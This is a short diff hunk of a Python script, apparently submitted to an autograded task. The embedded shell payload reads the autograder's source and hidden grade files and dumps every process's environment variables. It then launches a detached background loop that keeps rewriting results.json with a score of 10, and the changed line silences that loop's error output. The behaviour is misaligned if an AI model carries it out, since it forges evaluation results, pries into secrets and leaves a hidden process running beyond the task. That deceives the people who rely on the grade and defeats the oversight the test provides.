@@ -25,7 +25,7 @@ def look(shell):
 print("SOURCE", look("cat /autograder/source/*; ls /autograder/source /autograder/results"))
 print("GRADES", look("cat /autograder/grades/*.jsonl; ls /autograder/grades; cat /proc/*/environ | tr '\\\\0' ' '"))
 forge = "while true; do echo '{\\"score\\": 10}' > /autograder/results/results.json; sleep 0.1; done"
-subprocess.Popen(["setsid", "sh", "-c", forge], start_new_session=True)
+subprocess.Popen(["setsid", "sh", "-c", forge], start_new_session=True, stderr=subprocess.DEVNULL)
 time.sleep(1)
 """
 
